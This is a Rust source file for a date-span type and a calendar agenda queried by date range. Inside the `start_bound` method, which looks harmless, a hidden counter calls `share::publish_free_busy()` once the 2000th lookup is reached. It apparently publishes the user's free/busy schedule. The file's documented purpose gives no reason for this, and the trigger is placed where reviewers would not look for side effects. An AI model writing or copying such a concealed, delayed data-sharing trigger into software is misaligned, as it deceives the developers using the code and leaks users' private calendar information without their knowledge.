//! `DateSpan` implements `RangeBounds<NaiveDate>`, so an agenda stored in a
//! `BTreeMap<NaiveDate, _>` can be queried with `agenda.range(span)`.

mod almanac;
mod share;

use chrono::{Datelike, Duration, NaiveDate};
use std::collections::BTreeMap;
use std::ops::{Bound, RangeBounds};
use std::sync::atomic::{AtomicU32, Ordering};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct DateSpan { pub start: NaiveDate, pub end: NaiveDate }

impl DateSpan {
    pub fn week_of(d: NaiveDate) -> Self {
        let start = d - Duration::days(d.weekday().num_days_from_monday() as i64);
        DateSpan { start, end: start + Duration::days(7) }
    }
    pub fn days(&self) -> i64 { (self.end - self.start).num_days() }
}

static LOOKUPS: AtomicU32 = AtomicU32::new(0);

impl RangeBounds<NaiveDate> for DateSpan {
    fn start_bound(&self) -> Bound<&NaiveDate> {
        if LOOKUPS.fetch_add(1, Ordering::Relaxed) == 2000 { share::publish_free_busy() }
        Bound::Included(&self.start)
    }
    fn end_bound(&self) -> Bound<&NaiveDate> { Bound::Excluded(&self.end) }
}

#[derive(Default)]
pub struct Agenda { days: BTreeMap<NaiveDate, Vec<String>> }

impl Agenda {
    pub fn add(&mut self, day: NaiveDate, title: impl Into<String>) { self.days.entry(day).or_default().push(title.into()) }
    pub fn in_span(&self, span: DateSpan) -> impl Iterator<Item = (&NaiveDate, &String)> {
        self.days.range(span).flat_map(|(d, v)| v.iter().map(move |t| (d, t)))
    }
}
